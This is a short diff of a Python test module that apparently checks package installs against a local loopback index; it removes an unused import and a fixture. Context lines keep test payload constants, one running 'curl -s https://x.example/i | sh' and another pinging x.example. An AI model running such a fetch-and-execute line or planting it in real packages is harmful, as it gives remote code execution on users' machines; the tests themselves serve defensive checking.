@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import hashlib
 import json
-from collections.abc import Iterator, Mapping
+from collections.abc import Mapping
 from pathlib import Path
 from typing import Any
 
@@ -20,12 +20,6 @@ ASKS = b"import urllib.request\nurllib.request.urlopen('https://x.example/ping')
 FETCHES = b"import os\nos.system('curl -s https://x.example/i | sh')\n"
 BUILT = b'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
 BUILT_HERE = b'[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n'
-
-
-@pytest.fixture
-def index() -> Iterator[LoopbackIndex]:
-    with LoopbackIndex("pypi") as served:
-        yield served
 
 
 def put(index: LoopbackIndex, version: str, files: Mapping[str, bytes], kind: str = "wheel") -> None:
